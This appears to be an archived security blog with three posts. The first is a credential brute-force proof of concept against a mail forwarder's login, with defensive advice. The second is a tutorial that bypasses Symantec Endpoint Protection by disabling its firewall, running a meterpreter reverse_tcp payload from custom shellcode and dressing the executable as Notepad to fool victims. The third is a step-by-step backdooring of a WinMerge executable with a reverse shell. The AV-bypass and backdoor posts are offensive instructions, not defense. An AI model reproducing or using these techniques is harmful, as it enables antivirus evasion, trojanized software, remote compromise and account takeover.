Thursday, August 1, 2013

Avoiding Authentication Mistakes

I do a lot of my shopping online. And given the fact I am located on the beautiful island of Jamaica, most times I use a mail forwarder to get the items to me. This particular mail forwarder has an online portal that allows you to track your package. Pretty convenient might I add.

So I accessed the online service recently and noticed something interesting. I am sure everybody uses some kind of proxy[Burp,Fiddler,ZAP choose your poison.....] to observe the traffic during normal browsing :) Some details have been changed obviously.

GET /VulnerableSite/login.aspx?gtw=JAM&usr=4444&pwd=NkY0RUM1MTRFRUU4NENDNThDOEU2MTBBMEM4N0Q3QTI= HTTP/1.1
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.8; rv:22.0) Gecko/20100101 Firefox/22.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Cookie: __utma=196028464.1541830775.1375282569.1375282569.1375308802.2; __utmc=196028464;|utmccn=(referral)|utmcmd=referral|utmcct=/web/frontend/tarifas; ASP.NET_SessionId=bnsgfxusegjnoisfxzv2j0b0; TrackMe=usr=4444&gtw=JAM&language=1; __utmb=196028464.1.10.1375308802
Connection: keep-alive

See the problem? If you guessed credentials being being passed in the url, congratz you are now a leet hax0r....:) For those not aware, it is never a good idea to include sensitive information in the url. And I am sure you would classify your login credentials as sensitive. You can check this OWASP entry for additional information on thesubject.

Looking at the pwd parameter I initially thought that the password was simply encoded using base64. I tried to decode it in Burp. However that turned didn't work out well. I decided to diga little deeper and so I fired up chrome developer tools. Looking around I noticed the following code snippet:
var base64Digest = encode64(hex_md5(trim(password.value)).toUpperCase());
var url = '' + selectedGateway + '&usr=' +trim(account.value) + '&pwd=' + base64Digest;
return url;
alert('Error while encrypting password: ' + err);
return '';
Interesting...I accessed the javascript file where these functions were defined. For those that are interested those functions are here and here. On a side note you should never include logic like this on the client side. But I will get to this later.

So now that I knew what as happening to my password the next thing was to check if they were any restrictions on failed login attempts. I also wanted to know if the application was "leaky". In other words did it disclose any information that couldbe useful to attacker interested in performing a password guessing attack.  As it turns out the application was very helpful on both fronts. There was no threshold on failed login attempts and the application also explicitly stated the which parameter was incorrect on failed login attempts. Good news for the attacker.

You should always seek to implement some form of anti automation mechanism in your application. Especially when it concerns authentication. Whether it be a CAPTCHA after a certain amount of failed logins, account lock outs etc. Implement something. Each of these measures will have their pros and cons. For example implementing an account lock feature might spike the number of calls to your helpdesk. So weigh each approach accordingly. You should also include a generic message on failed login attempts such as "Username or password incorrect".

At this point I decided to do a simple PoC to show how easy it would be to exploit this. Of course I chose python as my language - as any well thinking person would have :) Now given that all the logic was implemented and exposed in the javascript file mentioned earlier I could either reproduce that logic in python or simply call the javascript methods from python. I chose the latter as it's way easier.

I used PyV8 . From the documentation:
PyV8 is a python wrapper for Google V8 engine, it act as a bridge between the Python and JavaScript objects, and support to hosting Google's v8 engine in a python script.
I hadn't used this library before and so this exercise was more about getting familiar with the library than anything else. The documentation is a bit sparse though.

The script basically loads the javascript file which gives us access to the various functions. It then reads a password file - incidentally this is a great resource for password files - passes each entry through the functions mentioned earlier andcreates the required url.

Here are some snippets:

# Set up the environment
ctxt = PyV8.JSContext()

# Load script that has the javascript functions we are interested in

# Open our password file for processing
passwdFile = open('password.txt','r')

 It then submits the url and checks for the appropriate response from the server.

for password in passwdFile:

# Replicate client side logic
hashGuess = ctxt.eval("encode64(hex_md5(trim('%s')).toUpperCase())" % (password.rstrip()))

print "TRYING: " + password

# Create custom url
url = "" %(hashGuess)

# Start session
sessions = requests.Session()
req = sessions.get(url)

# If this message is returned continue guessing
errStr = "Forgot your password?"

if errStr in req.text:
print 'INVALID'
print 'FOUND :' + password

The final PoC can be found here.

To wrap up:
  • Never send sensitive information in the url. In fact James Jardine(awesome resource right here) has nice piece on how to do this in .net. Really simple to accomplish.
  • Implement generic error messages. Instead of saying the "Username is incorrect", say something along the lines of "Username or password incorrect".
  • Do not expose critical logic on the client side. You certainly shouldn't be exposing yourpassword hashing/encryption/whatever on the client side.
  • Implement some sort of anti automation mechanism.
That's all folks.

Monday, March 11, 2013

AV Bypass: Symantec Endpoint Protection

While on an internal network assessment many months ago, Symantec Endpoint Protection kept catching my every move. Every thing I threw at it was flagged. I reached out to the community and in the end I was able to get past it using the technique described here. I had some time recently and decided to look at other ways of bypassing this particular AV - given that a recent client was also using it. I also decided to use the opportunity to review some Visual C++ code.

As it turns out, there are a myriad of ways to bypassing AV. Before we get started though, we need to lay some groundwork. Any anti-virus worth their salt is going to flag your metasploit payloads if you generate them using the default options. Trust me, I know. In fact, try it for yourself. Generate an empty payload and copy it to a box running an AV of your choice. There is a very high probability that it will get caught. ProTip: Do not copy your exe's to VirusTotal.

Now, most people will recommend encoding your payload to get around the issue. If you have tried that approach, you already know it doesn't work. What is important to note though, is that AV's are not actually flagging the payload but the templates in use. You can learn more about that here.

Armed with this knowledge it therefore means that in order for us to stand a chance, we must use our own custom templates.

For this tutorial I am using :
- Windows 7 (32-bit)
- Backtrack 5 R3
- Ditto (Nifty tool from Mubix)
- Symantec Endpoint Protection (Used version 12.1)

The idea for this post came from discussions with members of the community as well as this blog post.  The author takes the following approach:1. Allocate new executable memory region.
  2. Copy shellcode to memory allocated in step 1.
  3. Execute shellcode.
I had some issues with this in my environment and so I recreated the steps in Visual C++. My focus was specifically on getting the better of Symantec. Before I go on I would like to add a note on Reconnaissance. Most pentesters overlook this step choosing instead to jump right into attack mode.  However, I caution those who would take a similar a path. The success/failure of your engagement has a lot to do with the quality of your recon. It is important that you know as much as you about the client. So if during your recon you determine that the client is using Symantec Endpoint Protection, then grab a copy and hammer it in your lab.Now onto the fun stuff. I start by first of all making sure that when the executable is triggered, a window will not be displayed. The astute user aka victim should see only a flash. I then call the KillSymantec() function. This function will first take a snapshot of the running processes and once  completed will cycle through looking for the Symantec process i.e. "Smc.exe".

Once found, I disable Network Threat Protection with the following command:

system("\"C:\\Program Files\\Symantec\\Symantec Endpoint Protection\\Smc.exe\" -disable -ntp");

Let me explain the reason behind this. The custom template by itself will bypass AV checks.  See below:

However, what I found happening was when I used a meterpreter reverse_tcp payload, the Network Threat Protection kicked in and flagged my activity. Of course there are numerous ways around this. One of which might be to use the reverse_https payload instead. However,  to have some fun I decided to just go ahead and disable it altogether. Of course an astute user might notice the warning indicating that her firewall was just disabled. So brush up on your social-engineering foo.

After disabling Threat Protection, we wait a couple seconds for our changes to take effect. We then generate our shellcode in metasploit:

msfpayload windows/meterpreter/reverse_tcp LHOST= LPORT=443 R | msfencode -e x86/alpha_mixed

After that memory isallocated, taking the time to ensure that the correct attributes are set. We should be allowed to read and write to the area. We then copy our shellcode over and execute it. At this point you should see favorite screen:

To add a fun twist to our setup I decided to give mubix's ditto tool a run. From the readme ditto essentially :

"ditto takes a Windows exe as input and copies the resources of that binary into the target binary. Resources are usually icons, copywright info and descriptions of the binary."
 Using the following command I copied Notepad's resources into our custom executable:

C:\>ditto.exe C:\windows\system32\notepad.exe SEP_BYPASS.exe

So now our executable looks like this:

And if our user decides to check the properties of the executable before execution they will be met with a familiar screen. Of course it goes without saying that you should name your executable appropriately.

The final code looks like this

Note also that when compiling for release make sure tochange the Runtime Library options from Multi-threaded Debug DLL(/MDd). To do this, highlight the project click Properties -> Configuration Properties -> C/C++ - -> Code Generation ->Runtime Library option. That way all you need to copy to your victim is just the executable.

This was more about fun than anything else and is quick and dirty.  It is very specific to Symantec Endpoint Protection but could be extended. The idea is to adjust your approach per your engagement. For the C++ ninjas, I have not looked at C++ in a while so don't be hard on me :).

Sunday, March 3, 2013

Backdooring PE Files - Part 2

In part 1 of this two part series, we prepared our executable for code injection. In this post we are going to inject our code and execute our shell.
Let's open our executable in Immunity and examine our file:We can see the section that we added in part one of this series. Let's take note of this memory address as we will be using it later on.  In my environment the memory address is 00642000.

When we open our executable file, we notice that execution is paused at the point of calling a function. This is an ideal place to start our hijack. So let's copy the first couple instructions and save them to a file. This step is important, because as you may recall we will need to return to normal execution after executing our shellcode.

Entry Point004AC1C2 >   E8 C1080000    CALL WinMerge.004ACA88
004AC1C7   .^E9 37FDFFFF   JMP WinMerge.004ABF03

Let's access our buffer. We overwrite the first instruction with a jump to 00642000

Take the jump by pressing F7. You should have landed at the beginning of ourbuffer.

Great!!! Highlight the changes you made above and save them to a new executable. At this point we have successfully hijacked code execution. Now, in order for us to resume normal execution after our shellcode has finished executing, we need to save the state of the registers prior to calling our shellcode.  This is achieved by using the PUSHAD and PUSHFD instructions. If you are not familiar with these commands then take some time to understand them. Information can be found here.

Edit the first few bytes with the PUSHAD and PUSHFD commands. Execute the instructions and note the value of ESP. In my case that value was 0012FFA0. This step is crucial as this value will be used later on.

Fire up metasploit and generate your favourite shellcode. For this exercise I chose to use a reverse tcp shell on port 443. We then copy the generated code from metasploit and binary paste it into our buffer.

Now set a break point at the end of the shellcode you just copied and hit F9 to execute. When you have hit your breakpoint take special note of ESP. Again this is important as we will need this value to resume normal execution.

In my case, after execution ESP has an address of 0012FF00. Highlight these changes - register saving instructions and shellcode - and save them to an executable file. We are almost there.

Let's take stock of where we are at this point. So far we have:
  1. Hijacked execution
  2. Saved the state of the registers before shellcode execution
  3. Noted the value of ESP prior to and after shellcode execution
As we mentioned earlier once our shellcode has finished executing, we need to return tonormal execution. Remember those register saving instructions I mentioned earlier ? Remember also saving the value of ESP before and after execution? Well now we are going to use them.  We are going to be restoring our environment to a pre-hijacked state. To achieve this we first need to align our stack. Prior to execution, ESP had a value of 0012FFA0. And after execution it had a value of 0012FF00. In order for us to get back to 0012FA0, we need to add the result of 0012FA0 - 0012FF00 to ESP. The following command achieves this ADD ESP, 0xA0

Having aligned our stack, we now need to restore the register values we saved prior to executing our shellcode. This we achieve by issuing the POPFD and POPAD instructions. Note the reverse order of the instructions. This of course is due to the layout of the stack.

We have now aligned the stack and restored the register values. All that is needed now is to reintroduce the initial instructions we overwrote. Recall that we overwrote the CALL WinMerge.004ACA88. We then go to the next instruction JMP 004AC1C7.

Our executable now looks like this:

